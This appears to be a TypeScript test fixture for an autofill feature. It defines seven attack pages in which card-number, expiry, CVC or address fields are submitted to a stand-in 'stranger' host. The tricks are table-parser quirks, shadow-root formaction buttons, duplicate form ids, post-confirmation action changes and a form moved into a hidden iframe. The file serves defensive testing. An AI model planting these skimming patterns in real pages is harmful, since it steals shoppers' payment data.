import { cardForm, type Attack } from './attack.ts'

const fields =
  '<input id="n" autocomplete="cc-number"><input id="e" autocomplete="cc-exp"><input id="c" autocomplete="cc-csc">'

/**
 * Keeps the form ownership that the HTML parser creates; the same markup inserted by a script gives a different
 * one.
 */
const inRoot = (html: string) => `<div id="host"><template shadowrootmode="open">${html}</template></div>`

const address =
  '<input id="st" autocomplete="street-address"><input id="ci" autocomplete="address-level2"><input id="zi" autocomplete="postal-code">'

/** Forms that send their fields to another address than it seems. */
export const sendingAttacks: readonly Attack[] = [
  {
    title: 'a table separates the form element from its fields, which submit to a stranger',
    pages: (at) => ({
      shop: `<table><form action="${at('stranger')}" method="post"><tr><td>${fields}</td></tr></form></table>`,
    }),
  },
  {
    title: 'a button in the same shadow root submits the form to a stranger',
    pages: (at) => ({
      shop: inRoot(`<form action="/pay">${fields}<button formaction="${at('stranger')}">Pay</button></form>`),
    }),
  },
  {
    title: 'two forms have the same id, and the one in the shadow root submits to a stranger',
    pages: (at) => ({
      shop: `<form id="f" action="/pay"></form>${inRoot(`<form id="f" action="${at('stranger')}"></form><p>${fields.replaceAll('<input', '<input form="f"')}</p>`)}`,
    }),
  },
  {
    title: 'a button that submits to a stranger is added to the shadow root after the confirmation',
    pages: () => ({ shop: inRoot(`<form action="/pay">${fields}</form>`) }),
    meanwhile: (page, at) =>
      page.evaluate(
        (to) =>
          document
            .getElementById('host')!
            .shadowRoot!.querySelector('form')!
            .insertAdjacentHTML('beforeend', `<button formaction="${to}">Pay</button>`),
        at('stranger'),
      ),
  },
  {
    title: 'the form of the billing address submits to a stranger',
    pages: (at) => ({ shop: `${cardForm()}<form action="${at('stranger')}">${address}</form>` }),
    allows: '#n, #e, #c',
    isFilled: true,
  },
  {
    title: 'the address form’s action changes to a stranger’s site after the confirmation',
    pages: () => ({ shop: `${cardForm()}<form id="a" action="/address">${address}</form>` }),
    meanwhile: (page, at) =>
      page.evaluate((to) => document.getElementById('a')!.setAttribute('action', to), at('stranger')),
    allows: '#n, #e, #c',
    isFilled: true,
  },
  {
    title: 'the address form is moved into a hidden document after the confirmation',
    pages: () => ({
      shop: `${cardForm()}<form id="a" action="/address">${address}</form><iframe id="h" srcdoc="<body>" style="opacity:0"></iframe>`,
    }),
    meanwhile: (page) =>
      page.evaluate(() =>
        (document.getElementById('h') as HTMLIFrameElement).contentDocument!.body.append(document.getElementById('a')!),
      ),
    allows: '#n, #e, #c',
    isFilled: true,
  },
]
